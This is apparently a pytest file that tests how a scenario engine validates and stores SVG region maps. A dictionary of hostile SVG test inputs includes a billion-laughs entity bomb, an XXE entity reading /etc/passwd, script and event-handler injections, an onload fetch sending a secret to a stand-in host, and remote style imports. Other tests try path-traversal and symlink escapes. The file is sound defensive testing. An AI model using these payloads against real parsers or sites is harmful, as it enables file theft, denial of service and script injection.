"""A scenario's map (`map:`): the flagships' pictures load and are stored with a session, and a hostile picture
is refused with its line and column, nothing of it run, fetched or read from outside the scenario's folder."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from harness import bounded, in_process, no_traceback

from exercise.engine.compile import load_scenario, load_sources
from exercise.engine.models import MAP_TEXT_COLUMNS, MAP_TEXT_LINES
from exercise.engine.region_map import check_svg, picture

REPO = Path(__file__).resolve().parents[1]
SECRET = "TOP_SECRET_MARKER_9c1e"
ERROR_LINE = re.compile(r"^(?P<file>[^\n]+):(?P<line>\d+):(?P<col>\d+): error\[(?P<code>[a-z-]+)\]: (?P<msg>.+)$", re.M)
SVG = 'xmlns="http://www.w3.org/2000/svg"'

SCENARIO = """\
ttx: 1
id: mapped
title: Mapped
map:
  image: {image}
  text: |
    NORVIA [bold]port[/] *
nations:
  - {{id: norvia, name: Norvia}}
endings:
  - {{id: end, title: End}}
"""


def mapped(folder: Path, svg: str | None, image: str = "region.svg") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "scenario.yaml").write_text(SCENARIO.format(image=image), encoding="utf-8")
    if svg is not None:
        (folder / image).write_text(svg, encoding="utf-8")
    return folder / "scenario.yaml"


@pytest.mark.parametrize("flagship", ["northern-shield", "dry-river"])
def test_each_flagship_ships_its_map_and_a_session_keeps_it(flagship: str) -> None:
    sc = load_scenario(REPO / "scenarios" / flagship)
    region = sc.model.region_map
    assert region is not None and region.image == "region.svg"
    svg = picture(region.image, sc.sources, sc.main)
    assert svg == (REPO / "scenarios" / flagship / "region.svg").read_text(encoding="utf-8")
    assert check_svg(svg.encode())[1] == []
    # the copy a session stores replays with the same picture, whatever the disk holds later
    again = load_sources(sc.sources, sc.main)
    assert picture(region.image, again.sources, again.main) == svg
    lines = region.text.rstrip("\n").split("\n")
    assert len(lines) <= MAP_TEXT_LINES and max(len(line) for line in lines) <= MAP_TEXT_COLUMNS
    # the text map and the picture name the same capitals
    for capital in re.findall(r"\* ([A-Z][a-z]+)", region.text):
        assert capital in svg, capital


HOSTILE = {
    "billion-laughs": (f'<?xml version="1.0"?>\n<!DOCTYPE svg [\n <!ENTITY a "{"x" * 10}">\n'
                       + "".join(f' <!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">\n' for i in range(8))
                       + f"]>\n<svg {SVG}><text>&i;</text></svg>", 2, "DOCTYPE"),
    "external-entity": (f'<!DOCTYPE svg [<!ENTITY s SYSTEM "file:///etc/passwd">]>\n<svg {SVG}>&s;</svg>', 1,
                        "DOCTYPE"),
    "script": (f"<svg {SVG}>\n  <script>alert('{SECRET}')</script>\n</svg>", 2, "<script>"),
    "event-attribute": (f'<svg {SVG}>\n<rect width="5" height="5"\n  onclick="alert(1)"/></svg>', 3, "onclick"),
    "onload-on-root": (f'<svg {SVG} onload="fetch(\'https://x.example/{SECRET}\')"/>', 1, "onload"),
    "foreign-html": (f'<svg {SVG}><foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p>'
                     "</foreignObject></svg>", 1, "<foreignObject>"),
    "outside-image": (f'<svg {SVG}>\n<image href="https://x.example/t.png"/></svg>', 2, "<image>"),
    "use-other-file": (f'<svg {SVG} xmlns:xlink="http://www.w3.org/1999/xlink">\n'
                       '<use xlink:href="other.svg#a"/></svg>', 2, "xlink:href"),
    "javascript-link-by-set": (f'<svg {SVG}>\n<set attributeName="href" to="javascript:alert(1)"/></svg>', 2,
                               "<set>"),
    "outside-url-in-style": (f'<svg {SVG}>\n<rect style="fill: url(https://x.example/p.svg#p)"/></svg>', 2,
                             "url(https://x.example/p.svg#p)"),
    "style-element": (f'<svg {SVG}><style>@import url(https://x.example/s.css);</style></svg>', 1, "<style>"),
    "stylesheet-instruction": (f'<?xml-stylesheet href="https://x.example/s.css"?>\n<svg {SVG}/>', 1,
                               "xml-stylesheet"),
    "not-svg": ('<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', 1, "<svg>"),
    "not-xml": (f"<svg {SVG}><g></svg>", 1, "well-formed"),
    "other-encoding": (f'<?xml version="1.0" encoding="ISO-8859-1"?>\n<svg {SVG}/>', 1, "UTF-8"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_map_is_refused_at_its_line(tmp_path: Path, case: str) -> None:
    svg, line, words = HOSTILE[case]
    mapped(tmp_path, svg)
    done = in_process("validate", tmp_path / "scenario.yaml")
    no_traceback(done)
    assert done.returncode == 1
    errors = list(ERROR_LINE.finditer(done.stdout + done.stderr))
    assert len(errors) == 1, done.stdout + done.stderr
    assert errors[0]["file"].endswith("region.svg") and errors[0]["code"] == "map"
    assert int(errors[0]["line"]) == line
    assert words in errors[0]["msg"]
    assert SECRET not in done.stdout + done.stderr


def test_billion_laughs_stays_small_in_a_bounded_process(tmp_path: Path) -> None:
    svg, _, _ = HOSTILE["billion-laughs"]
    mapped(tmp_path, svg)
    done = bounded("validate", tmp_path / "scenario.yaml")
    no_traceback(done)
    assert done.returncode == 1 and "error[map]" in done.stdout + done.stderr


def _secret_outside(tmp_path: Path) -> Path:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    target = outside / "secret.svg"
    target.write_text(f"<svg {SVG}><text>{SECRET}</text></svg>", encoding="utf-8")
    return target


@pytest.mark.parametrize("how", ["climbing", "absolute", "symlink", "folder-link"])
def test_a_map_outside_the_scenarios_folder_is_refused_unread(tmp_path: Path, how: str) -> None:
    target = _secret_outside(tmp_path)
    work = tmp_path / "work"
    work.mkdir()
    image = {"climbing": "../elsewhere/secret.svg", "absolute": str(target), "symlink": "region.svg",
             "folder-link": "maps/secret.svg"}[how]
    if how == "symlink":
        (work / "region.svg").symlink_to(target)
    if how == "folder-link":
        (work / "maps").symlink_to(target.parent)
    mapped(work, None, image=image)
    done = in_process("validate", work / "scenario.yaml")
    no_traceback(done)
    assert done.returncode == 1
    errors = list(ERROR_LINE.finditer(done.stdout + done.stderr))
    assert len(errors) == 1 and errors[0]["file"].endswith("scenario.yaml"), done.stdout + done.stderr
    assert errors[0]["code"].startswith("map") and int(errors[0]["line"]) == 5
    assert SECRET not in done.stdout + done.stderr


def test_a_missing_map_and_a_wide_text_map_are_named(tmp_path: Path) -> None:
    mapped(tmp_path, None)
    done = in_process("validate", tmp_path / "scenario.yaml")
    assert done.returncode == 1 and "no such file" in done.stdout + done.stderr
    wide = tmp_path / "wide"
    mapped(wide, f"<svg {SVG}/>")
    text = (wide / "scenario.yaml").read_text(encoding="utf-8")
    (wide / "scenario.yaml").write_text(text.replace("NORVIA", "N" * 80), encoding="utf-8")
    done = in_process("validate", wide / "scenario.yaml")
    assert done.returncode == 1 and "text map is 96 characters wide" in done.stdout + done.stderr


def test_a_clean_map_validates_and_is_stored(tmp_path: Path) -> None:
    svg = (f'<?xml version="1.0" encoding="UTF-8"?>\n<svg {SVG} xmlns:xlink="http://www.w3.org/1999/xlink">'
           '<defs><pattern id="p" width="4" height="4"/></defs><rect id="r" fill="url(#p)"/>'
           '<use xlink:href="#r"/><text>A &amp; B</text></svg>')
    path = mapped(tmp_path, svg)
    done = in_process("validate", path)
    assert done.returncode == 0, done.stdout + done.stderr
    sc = load_scenario(path)
    assert sc.sources["region.svg"] == svg


def test_the_report_shows_the_map_as_an_image_and_the_markdown_links_it(tmp_path: Path) -> None:
    import base64

    svg = f'<svg {SVG} viewBox="0 0 10 10"><title>Norvia &amp; its port</title><rect width="4" height="4"/></svg>'
    path = mapped(tmp_path / "scenario", svg)
    db = tmp_path / "s.sqlite"
    assert in_process("run", path, "--db", db, "--bots").returncode == 0
    (tmp_path / "scenario" / "region.svg").write_text(f"<svg {SVG}/>", encoding="utf-8")  # the disk moves on
    done = in_process("report", db, "--format", "md,html", "-o", tmp_path / "out")
    assert done.returncode == 0, done.stdout + done.stderr
    html = (tmp_path / "out" / "s-aar.html").read_text(encoding="utf-8")
    found = re.search(r'<img src="data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)"', html)
    assert found is not None
    assert base64.b64decode(found.group(1)).decode() == svg  # the picture the session was played with
    assert "<svg" not in html.split('id="region-map"')[1].split("</figure>")[0]  # an image, never inlined
    md = (tmp_path / "out" / "s-aar.md").read_text(encoding="utf-8")
    assert "](s-aar-figures/region-map.svg)" in md
    assert (tmp_path / "out" / "s-aar-figures" / "region-map.svg").read_text(encoding="utf-8") == svg
